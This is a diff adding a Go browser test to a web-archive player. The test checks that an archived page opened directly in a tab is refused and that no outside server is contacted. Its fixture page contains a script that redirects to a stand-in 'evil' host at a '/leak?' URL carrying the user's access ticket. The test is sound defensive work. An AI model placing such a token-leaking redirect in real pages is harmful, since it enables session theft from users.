@@ -68,6 +68,34 @@ func TestAnArchivedPageCannotLeaveItsFrame(t *testing.T) {
 	}
 }
 
+// TestAnArchivedPageIsNotShownInATab opens a page in a tab, by both of its addresses. The page leaves for elsewhere.
+// The dashboard has the same host name as the player, so that a tab has the same service worker as the frame.
+func TestAnArchivedPageIsNotShownInATab(t *testing.T) {
+	t.Parallel()
+	w := newWritten(t)
+	p := w.player(engine(t), "maria")
+	origin := serve(t, p)
+	evil, visitors := listener(t)
+	ticket := p.o.Tickets.Issue("maria", w.Now)
+	at := w.add(w.Page("http://b.example/", htmlHead, "<p>well<iframe></iframe>"), "text/html", 200)
+	w.add(w.Page("http://www.a.example/", htmlHead, "<script>location = '"+evil+"/leak?"+ticket+"'</script>"), "text/html", 200)
+	var secrets atomic.Int64
+	d := dashboard(t, fmt.Sprintf("%s/open/%s/%s/http://b.example/", origin, ticket, at), &secrets)
+
+	b := browser.Open(t, 300, 200)
+	b.Go(strings.Replace(d.URL, "127.0.0.1", "localhost", 1) + signIn)
+	b.Wait(`frames.length === 1 && frames[0].length === 1`) // the archived page, which has a frame, is shown
+	for _, path := range []string{"/w/" + ticket + "/" + at + "mp_/", "/open/" + ticket + "/" + at + "/"} {
+		b.Go(origin + path + "http://www.a.example/")
+		if got := b.Eval(`document.documentElement.innerText`); !strings.Contains(got, "only inside the dashboard") {
+			t.Errorf("%s shows %s", path, got)
+		}
+	}
+	if list := visitors(); len(list) > 0 {
+		t.Errorf("another server was reached: %q", list)
+	}
+}
+
 // listener is another server. visitors returns the first line of each request to it. A connection without a request
 // does not count: Chromium connects to the server of a frame before it looks at the policy that forbids the frame.
 func listener(t *testing.T) (origin string, visitors func() []string) {
